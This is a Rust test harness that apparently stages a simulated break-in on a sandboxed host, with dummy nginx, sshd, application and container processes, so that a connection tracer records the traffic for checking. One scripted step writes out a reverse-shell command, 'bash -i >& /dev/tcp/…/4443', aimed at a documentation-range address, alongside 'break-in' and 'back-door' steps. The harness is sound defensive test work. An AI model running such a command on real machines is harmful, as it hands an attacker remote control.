//! Where it is played, and in which order.

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::Ipv4Addr,
    process::{Child, ChildStdout, Command, Stdio},
    time::Duration,
};

use anyhow::{Context as _, ensure};
use nix::{
    libc,
    sys::{
        signal::{Signal, kill},
        socket::{AddressFamily, SockFlag, SockType, socket},
    },
    unistd::Pid,
};
use tracer_core::text::hex;
use tracer_tests::cgroup::Cgroup;

/// What is recorded.
const RECORDING: &str = "/tmp/intrusion.rec";
/// The container whose job fetches a script.
const CONTAINER: &str = "4f5e0c1a9d3b7e62881f0a6c5d2e9b74c3f1a8e05d6b9274e8c1f3a05b7d9e62";
/// What stands for the internet: the networks of documentation.
const INTERNET: &str = "192.0.2.0/24,198.51.100.0/24,203.0.113.0/24";
/// Bytes of the recording in a line of the console.
const LINE: usize = 512;

/// Plays the whole of it, and prints the recording, in lines of hexadecimal digits behind `data: `.
pub fn stage() -> anyhow::Result<bool> {
    furnish()?;
    let outside = ["/outside", "/usr/bin/outside"];
    let mut outside = Actor::enter(outside, &[], None)?;
    let nginx = ["/system.slice/nginx.service", "/usr/sbin/nginx"];
    let mut nginx = Actor::enter(nginx, &["-g", "daemon off;"], None)?;
    let sshd = ["/system.slice/ssh.service", "/usr/sbin/sshd"];
    let _sshd = Actor::enter(sshd, &["-D"], None)?;
    let tracer = record()?;
    outside.does("open")?;
    let app = ["/system.slice/app.service", "/usr/bin/python3"];
    let _app = Actor::enter(app, &["/srv/app/main.py"], None)?;
    let agent = [
        "/system.slice/update-agent.service",
        "/usr/sbin/update-agent",
    ];
    let _agent = Actor::enter(agent, &[], None)?;
    let job = [
        &format!("/system.slice/docker-{CONTAINER}.scope"),
        "/usr/bin/python3",
    ];
    let mut job = Actor::enter(job, &["job.py"], None)?;
    outside.does("customers")?;
    outside.does("administrator")?;
    let session = [
        "/user.slice/user-1000.slice/session-3.scope",
        "/usr/bin/bash",
    ];
    Actor::enter(session, &["-l"], Some(1000))?.end()?;
    outside.does("break-in")?;
    nginx.does("bash -i >& /dev/tcp/203.0.113.66/4443 0>&1")?;
    pause(9);
    job.does("fetch")?;
    outside.does("customers")?;
    pause(8);
    outside.does("back-door")?;
    outside.does("customers")?;
    pause(14);
    end(tracer)?;
    print()
}

/// What the programs need: names, addresses, users and files.
fn furnish() -> anyhow::Result<()> {
    nix::unistd::sethostname("web1")?;
    for (alias, address) in [
        [10, 0, 0, 5],
        [192, 0, 2, 254],
        [198, 51, 100, 254],
        [203, 0, 113, 254],
    ]
    .into_iter()
    .enumerate()
    {
        add_address(&format!("lo:{alias}"), address.into())?;
    }
    fs::write(
        "/etc/passwd",
        "root:x:0:0::/:\nwww-data:x:33:33::/:\nalice:x:1000:1000::/:\napp:x:1001:1001::/:\n",
    )?;
    fs::write(
        "/etc/hosts",
        "198.51.100.10 updates.example\n10.0.0.20 db1.internal\n",
    )?;
    fs::write(
        "/etc/services",
        "ssh 22/tcp\ndomain 53/udp\nhttp 80/tcp\nhttps 443/tcp\npostgresql 5432/tcp\n",
    )?;
    for directory in ["/usr/bin", "/usr/sbin"] {
        fs::create_dir_all(directory)?;
    }
    for path in [
        "bin/outside",
        "bin/bash",
        "bin/curl",
        "bin/ssh",
        "bin/python3",
        "sbin/nginx",
        "sbin/sshd",
        "sbin/update-agent",
    ] {
        fs::copy("/init", format!("/usr/{path}"))?;
    }
    let state = format!("/var/lib/docker/containers/{CONTAINER}");
    fs::create_dir_all(&state)?;
    let config =
        r#"{"Name": "/nightly-report", "Config": {"Image": "registry.example/report:1.4"}}"#;
    fs::write(format!("{state}/config.v2.json"), config)?;
    Ok(())
}

/// Gives the loopback device one more address, and all of its network with it.
fn add_address(alias: &str, address: Ipv4Addr) -> anyhow::Result<()> {
    let socket = socket(
        AddressFamily::Inet,
        SockType::Datagram,
        SockFlag::SOCK_CLOEXEC,
        None,
    )?;
    let family = libc::sa_family_t::try_from(libc::AF_INET)?;
    let of = |address: Ipv4Addr| libc::sockaddr_in {
        sin_family: family,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(address).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mask = Ipv4Addr::new(255, 255, 255, 0);
    let up = libc::c_short::try_from(libc::IFF_UP | libc::IFF_RUNNING)?;
    set(&socket, "lo", libc::SIOCSIFFLAGS, |request| {
        request.ifr_ifru.ifru_flags = up;
    })?;
    for (what, value) in [(libc::SIOCSIFADDR, address), (libc::SIOCSIFNETMASK, mask)] {
        set(&socket, alias, what, |request| {
            // SAFETY: a sockaddr_in has the size of the sockaddr that is there, and means the same.
            request.ifr_ifru.ifru_addr =
                unsafe { std::mem::transmute::<libc::sockaddr_in, libc::sockaddr>(of(value)) };
        })?;
    }
    Ok(())
}

/// Sets something of a network device.
fn set(
    socket: &impl std::os::fd::AsRawFd,
    device: &str,
    what: libc::Ioctl,
    fill: impl FnOnce(&mut libc::ifreq),
) -> anyhow::Result<()> {
    // SAFETY: zeros are a valid ifreq.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (to, from) in request.ifr_name.iter_mut().zip(device.bytes()) {
        *to = libc::c_char::try_from(from)?;
    }
    fill(&mut request);
    // SAFETY: the request is an ifreq, as these ioctls want.
    let result = unsafe { libc::ioctl(socket.as_raw_fd(), what, &raw const request) };
    nix::errno::Errno::result(result).with_context(|| format!("cannot set {device}"))?;
    Ok(())
}

/// A program with a part.
struct Actor {
    child: Child,
    lines: BufReader<ChildStdout>,
    /// Stays while it plays.
    _cgroup: &'static Cgroup,
}

impl Actor {
    /// Starts one in a cgroup, and waits until it is ready. `login`: of whose session it is.
    fn enter(
        [cgroup, program]: [&str; 2],
        words: &[&str],
        login: Option<u32>,
    ) -> anyhow::Result<Self> {
        let cgroup: &'static Cgroup = Box::leak(Box::new(Cgroup::new(cgroup)));
        fs::write(format!("{}/cgroup.procs", cgroup.directory()), "0")?;
        let mut command = Command::new(program);
        if let Some(uid) = login {
            use std::os::unix::process::CommandExt as _;
            // The machine may have no audit.
            let _ = fs::write("/proc/self/loginuid", uid.to_string());
            command.uid(uid).gid(uid);
        }
        let child = command
            .args(words)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn();
        fs::write("/sys/fs/cgroup/cgroup.procs", "0")?;
        let mut child = child.with_context(|| format!("cannot start {program}"))?;
        let stdout = child.stdout.take().context("no stdout")?;
        let mut actor = Self {
            child,
            lines: BufReader::new(stdout),
            _cgroup: cgroup,
        };
        if login.is_none() {
            actor.hear()?;
        }
        Ok(actor)
    }

    /// Has it do something, and waits until that is done.
    fn does(&mut self, what: &str) -> anyhow::Result<()> {
        let stdin = self.child.stdin.as_mut().context("no stdin")?;
        writeln!(stdin, "{what}")?;
        self.hear()
    }

    fn hear(&mut self) -> anyhow::Result<()> {
        let mut line = String::new();
        ensure!(self.lines.read_line(&mut line)? > 0, "an actor has left");
        Ok(())
    }

    /// Waits until it has done what it does.
    fn end(mut self) -> anyhow::Result<()> {
        ensure!(self.child.wait()?.success(), "an actor has failed");
        Ok(())
    }
}

/// Starts to record what the host sees.
fn record() -> anyhow::Result<Child> {
    let mut tracer = Command::new("/conntracer")
        .args([
            "--record",
            RECORDING,
            "--record-selected",
            "--not-cgroup",
            "/outside",
        ])
        .args(["--external-cidr", INTERNET])
        .args([
            "--udp-idle",
            "10s",
            "--update-interval",
            "10s",
            "-o",
            "json",
        ])
        .stdout(Stdio::piped())
        .spawn()
        .context("cannot start conntracer")?;
    let mut lines = BufReader::new(tracer.stdout.take().context("no stdout")?);
    let mut line = String::new();
    // The web server was there before.
    while !line.contains("\"existing\"") {
        line.clear();
        ensure!(lines.read_line(&mut line)? > 0, "conntracer traces nothing");
    }
    // What it goes on to write is of no use here.
    std::thread::spawn(move || std::io::copy(&mut lines, &mut std::io::sink()));
    Ok(tracer)
}

fn end(mut tracer: Child) -> anyhow::Result<()> {
    kill(Pid::from_raw(i32::try_from(tracer.id())?), Signal::SIGTERM)?;
    let status = tracer.wait()?;
    ensure!(status.success(), "conntracer ended with {status}");
    Ok(())
}

/// Nothing but the console leads out of the machine.
fn print() -> anyhow::Result<bool> {
    for line in fs::read(RECORDING)?.chunks(LINE) {
        println!("data: {}", hex(line));
    }
    Ok(true)
}

fn pause(seconds: u64) {
    std::thread::sleep(Duration::from_secs(seconds));
}
